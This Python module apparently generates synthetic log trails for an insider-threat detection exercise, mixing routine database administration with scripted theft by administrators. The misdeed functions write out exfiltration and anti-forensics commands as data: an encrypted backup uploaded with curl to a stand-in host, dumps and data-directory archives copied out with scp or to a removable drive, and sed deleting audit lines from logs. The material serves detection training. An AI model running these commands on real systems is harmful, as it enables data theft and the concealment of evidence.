"""What administrators' acts leave in the logs of hosts, backups, the VPN and their own machines.

Beside the misdeeds stand the honest days: logins, maintenance, nightly backups, a restore test each month, dumps for
the vendor. Some of it looks like the misdeeds, as it does in life.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Final

import numpy as np

from kulla.exercise.staff import ADMINISTRATOR
from kulla.exercise.trails import Trails
from kulla.exercise.workdays import SECOND, Day
from kulla.exercise.world import World
from kulla.registers.folder import made

_MINUTE: Final = 60 * SECOND
_DATA: Final = "/var/lib/postgresql/15/main"
_CHORES: Final = (
    "/usr/bin/systemctl status postgresql@15-main", "/usr/bin/df -h /var/lib/postgresql", "/usr/bin/pgbackrest info",
    "/usr/bin/tail -n 200 /var/log/postgresql/postgresql.csv", "/usr/bin/journalctl -u postgresql -n 100",
    "/usr/bin/vacuumdb --all --analyze-only", "/usr/bin/apt-get upgrade -y", "/usr/bin/systemctl reload postgresql",
    "/usr/bin/psql -c 'select count(*) from pg_stat_activity'", "/usr/bin/ls -l /var/lib/postgresql/15/main",
)  # fmt: skip

Script = Callable[[Trails, int, str, str], None]
"""(trails, time of the read in microseconds, account, register) → the lines that lead up to it and follow."""


def _dump(trails: Trails, time: int, user: str, register: str) -> None:
    computer = f"ADM-{user.upper()}"
    trails.process(time, computer, user, f"C:\\PostgreSQL\\15\\bin\\pg_dump.exe -h db1 -U {user} -t public.{register} "
                   f"-f C:\\Users\\{user}\\{register}.sql registers")  # fmt: skip
    trails.process(time + 4 * _MINUTE, computer, user, f"C:\\Program Files\\7-Zip\\7z.exe a -pSummer24 "
                   f"C:\\Users\\{user}\\r.7z C:\\Users\\{user}\\{register}.sql")  # fmt: skip
    trails.process(
        time + 9 * _MINUTE, computer, user, f"C:\\Windows\\System32\\robocopy.exe C:\\Users\\{user} E:\\ r.7z"
    )


def _base_backup(trails: Trails, time: int, user: str, register: str) -> None:
    trails.login("bk1", time - 6 * _MINUTE, user, "10.64.200.9")
    trails.sudo("bk1", time - 5 * _MINUTE, user, f"/usr/bin/pg_basebackup -h db1 -U {user} -D /srv/tmp/bb -Ft -z")
    trails.sudo("bk1", time + 20 * _MINUTE, user, "/usr/bin/openssl enc -aes-256-cbc -in /srv/tmp/bb/base.tar.gz "
                "-out /srv/tmp/upd.bin -pass file:/srv/tmp/.k")  # fmt: skip
    trails.sudo("bk1", time + 24 * _MINUTE, user, "/usr/bin/curl -T /srv/tmp/upd.bin https://transfer.example.net/upd")


def _replication(trails: Trails, time: int, user: str, register: str) -> None:
    trails.login("bk1", time - 3 * _MINUTE, user, "10.64.200.9")
    trails.sudo("bk1", time, user, f"/usr/bin/pg_recvlogical -h db1 -U {user} -d registers --slot=sub --create-slot "
                "--start -f /srv/tmp/changes.out")  # fmt: skip


def _restore(trails: Trails, time: int, user: str, register: str) -> None:
    trails.login("test1", time - 70 * _MINUTE, user, "10.64.200.9")
    trails.sudo("test1", time - 68 * _MINUTE, user, "/usr/bin/pgbackrest --stanza=main --delta restore")
    trails.backup(time - 68 * _MINUTE, "test1", "P00   INFO: restore command begin 2.44: --delta --stanza=main "
                  "--repo1-host=bk1 --log-level-console=info")  # fmt: skip
    trails.backup(time - 9 * _MINUTE, "test1", "P00   INFO: restore command end: completed successfully (3540112ms)")
    trails.sudo("test1", time, user, f"/usr/bin/psql -d registers -c '\\copy public.{register} to /tmp/p.csv csv'")
    trails.sudo("test1", time + 6 * _MINUTE, user, "/usr/bin/tar czf /tmp/p.tgz /tmp/p.csv")


def _replica(trails: Trails, time: int, user: str, register: str) -> None:
    trails.vpn(time - 5 * _MINUTE, user, "198.51.100.23", "10.64.200.9")
    trails.login("db2", time - 4 * _MINUTE, user, "10.64.200.9")
    trails.sudo(
        "db2", time, user, f"/usr/bin/psql -d registers -c '\\copy public.{register} to /home/{user}/x.csv csv'"
    )
    trails.sudo("db2", time + 9 * _MINUTE, user, f"/usr/bin/scp /home/{user}/x.csv {user}@10.64.200.9:")


def _files(trails: Trails, time: int, user: str, register: str) -> None:
    trails.login("db1", time - 4 * _MINUTE, user, "10.64.200.9")
    trails.sudo("db1", time, user, f"/usr/bin/tar czf /tmp/.cache.tgz {_DATA}/base")
    trails.sudo("db1", time + 12 * _MINUTE, user, f"/usr/bin/scp /tmp/.cache.tgz {user}@10.64.200.9:")
    trails.sudo("db1", time + 16 * _MINUTE, user, "/usr/bin/rm -f /tmp/.cache.tgz")


def _audit_off(trails: Trails, time: int, user: str, register: str) -> None:
    trails.login("db1", time - 4 * _MINUTE, user, "10.64.200.9")
    trails.sudo("db1", time - 2 * _MINUTE, user, "/usr/bin/psql -d registers")


def _lines_deleted(trails: Trails, time: int, user: str, register: str) -> None:
    trails.login("db1", time - 4 * _MINUTE, user, "10.64.200.9")
    trails.sudo("db1", time + 7 * _MINUTE, user,
                f"/usr/bin/sed -i /{user}.*AUDIT/d /var/log/postgresql/{register}.csv")  # fmt: skip
    trails.sudo("db1", time + 8 * _MINUTE, user, "/usr/bin/systemctl restart rsyslog")


SCRIPTS: Final[Mapping[str, Script]] = {
    "pg_dump": _dump, "base_backup": _base_backup, "replication_connection": _replication,
    "restore_to_test": _restore, "read_from_replica": _replica, "file_level_copy": _files,
    "audit_off_and_on": _audit_off, "log_lines_deleted": _lines_deleted,
}  # fmt: skip
"""What each misdeed by administrators leaves outside the register's own audit."""


def trails_of(world: World) -> Trails:
    """All trails of an exercise: of its misdeeds by administrators and of their honest days."""
    trails = Trails()
    for day in world.roster.calendar:
        stream = np.random.default_rng([world.seed, 111, day.index])
        _night(trails, day, stream)
        for account in world.roster.of_kind(ADMINISTRATOR):
            _chores(trails, day, world.roster.names[account], world.register, stream)
    for _, plot, acts in world.misdeeds():
        if (script := SCRIPTS.get(plot.family.name)) is not None:
            for time in acts.time.tolist():
                script(trails, time, world.roster.names[plot.doers[0]], world.register)
    return trails


def write_trails(folder: Path, world: World) -> int:
    """Write the trails below the folder, each file by time; the number of lines."""
    count = 0
    for name, lines in trails_of(world).files.items():
        path = folder / name
        made(path.parent)
        lines.sort(key=lambda each: each[0])
        path.write_bytes(b"".join(line for _, line in lines))
        count += len(lines)
    return count


def _night(trails: Trails, day: Day, stream: np.random.Generator) -> None:
    """The backup of the night; on the first of the month it is restored for a test, in office hours."""
    begin = day.at(1.0 + 0.2 * stream.random())
    kind = "full" if day.date.weekday() == 6 else "diff"
    trails.syslog("host/syslog-db1.log", "db1", begin - SECOND, "CRON",
                  f"(postgres) CMD (pgbackrest --stanza=main --type={kind} backup)", 78)  # fmt: skip
    trails.backup(begin, "db1", f"P00   INFO: backup command begin 2.44: --stanza=main --type={kind} --repo1-host=bk1")
    took = int(1_800_000 * (1 + stream.random()))
    trails.backup(begin + took * 1000, "db1", f"P00   INFO: backup command end: completed successfully ({took}ms)")
    if day.date.day <= 7 and day.date.weekday() == 2:
        trails.login("test1", day.at(10.0), "svc_backup", "10.9.0.40")
        trails.sudo("test1", day.at(10.05), "svc_backup", "/usr/bin/pgbackrest --stanza=main --delta restore")
        trails.backup(day.at(10.05), "test1", "P00   INFO: restore command begin 2.44: --delta --stanza=main")
        trails.backup(day.at(11.1), "test1", "P00   INFO: restore command end: completed successfully (3780944ms)")
    if day.date.weekday() == 0:
        trails.command("db1", day.at(6.4), "root", "/usr/sbin/logrotate /etc/logrotate.conf", 0)


def _chores(trails: Trails, day: Day, user: str, register: str, stream: np.random.Generator) -> None:
    """Sessions of maintenance; rarely from home at night, rarely a dump that the vendor asked for."""
    if stream.random() > (0.55 if day.worked else 0.06):
        return
    late = stream.random() < 0.1
    begin = day.at(19.0 + 3 * stream.random() if late else 8.0 + 7 * stream.random())
    source = "10.64.200.7" if late else "10.22.0.17"
    if late:
        trails.vpn(begin - 2 * _MINUTE, user, "198.51.100.61", source)
    host = ("db1", "db2", "bk1", "test1")[int(stream.integers(4))]
    trails.login(host, begin, user, source)
    for step in range(int(stream.integers(1, 6))):
        trails.sudo(host, begin + (1 + 3 * step) * _MINUTE, user, _CHORES[int(stream.integers(len(_CHORES)))])
    if stream.random() < 0.004:
        trails.sudo(host, begin + 30 * _MINUTE, user, f"/usr/bin/pg_dump -s -t public.{register} registers")
    trails.process(
        begin - _MINUTE, f"ADM-{user.upper()}", user, f"C:\\Windows\\System32\\OpenSSH\\ssh.exe {user}@{host}"
    )
